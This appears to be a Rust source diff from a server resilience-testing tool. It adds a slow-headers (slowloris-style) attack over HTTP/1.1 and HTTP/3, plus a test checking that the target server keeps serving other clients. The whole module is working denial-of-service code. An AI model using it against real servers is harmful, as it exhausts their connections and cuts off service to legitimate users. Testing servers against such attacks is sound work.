@@ -1,0 +1,68 @@
+//! Heads of requests that arrive a byte at a time.
+
+use std::io;
+
+use tokio::io::AsyncWriteExt;
+
+use super::Force;
+use crate::wire::{H3_HEADERS, Head, h3_frame_head};
+
+/// Bytes that the slow HEADERS frame of HTTP/3 is said to have.
+const ANNOUNCED: u64 = 10_000;
+
+pub(super) async fn heads(force: &Force, number: usize) -> io::Result<()> {
+    if number.is_multiple_of(2) {
+        http1(force, number).await
+    } else {
+        http3(force, number).await
+    }
+}
+
+async fn http1(force: &Force, number: usize) -> io::Result<()> {
+    let stream = force.victim.tls_stream(force.source(number), b"http/1.1").await?;
+    let _open = force.tally.open();
+    let (reading, mut writing) = tokio::io::split(stream);
+    let sending = async {
+        let text = Head::get(force.victim.title.as_str()).http1();
+        // Without the empty line, and then one field more without an end.
+        for byte in text[..text.len() - 2].iter().chain(std::iter::repeat(&b'x')) {
+            force.act().await;
+            writing.write_all(&[*byte]).await?;
+            writing.flush().await?;
+        }
+        Ok(())
+    };
+    tokio::select! {
+        biased;
+        ended = force.drain(reading) => ended,
+        failed = sending => failed,
+    }
+}
+
+async fn http3(force: &Force, number: usize) -> io::Result<()> {
+    let connection = force.quic(number, |_| {}).await?;
+    let _open = force.tally.open();
+    let (mut sending, _response) = connection.open_bi().await?;
+    sending.write_all(&h3_frame_head(H3_HEADERS, ANNOUNCED)).await?;
+    loop {
+        force.act().await;
+        // Ends when the server has reset the stream.
+        sending.write_all(b"x").await?;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::attacks::{Attack, Scale};
+    use crate::beside::assert_served;
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn slow_heads_leave_service_to_others() {
+        let scale = Scale {
+            connections: 60,
+            addresses: 12,
+            rate: 200.0,
+        };
+        assert_served(Attack::SlowHeads, scale, &[]).await;
+    }
+}
